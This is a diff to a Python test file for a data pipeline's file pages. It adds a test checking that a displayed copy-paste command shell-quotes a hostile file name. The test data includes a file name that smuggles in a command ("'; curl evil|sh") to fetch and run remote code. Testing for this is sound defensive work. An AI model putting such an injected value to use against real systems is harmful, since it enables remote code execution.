@@ -1,6 +1,9 @@
 """Lists of files, and the page of one."""
 
+import html
 import json
+import re
+import shlex
 
 import pytest
 
@@ -139,6 +142,14 @@ def test_a_quarantined_files_page_tells_why_and_what_to_do(pipeline, browser):
 def test_a_command_that_cannot_be_shown_as_it_is_is_not_shown(pipeline, browser):
     source = pipeline.put("incoming/\u202ebad.csv", "QUARANTINED", ago(9), reason="missing_columns")
     assert "music-streams put FILE" not in browser.get(f"/files/{source.source_id}").text
+
+
+def test_a_command_to_copy_names_a_hostile_file_in_one_word(pipeline, browser):
+    name = "x   '; curl evil|sh   '.csv"
+    source = pipeline.put(f"incoming/{name}", "QUARANTINED", ago(9), reason="missing_columns")
+    page = browser.get(f"/files/{source.source_id}")
+    [command, _] = re.findall(r"<code>(music-streams .*?)</code>", page.html)
+    assert shlex.split(html.unescape(command)) == ["music-streams", "put", "FILE", "--key", name]
 
 
 @pytest.mark.parametrize(
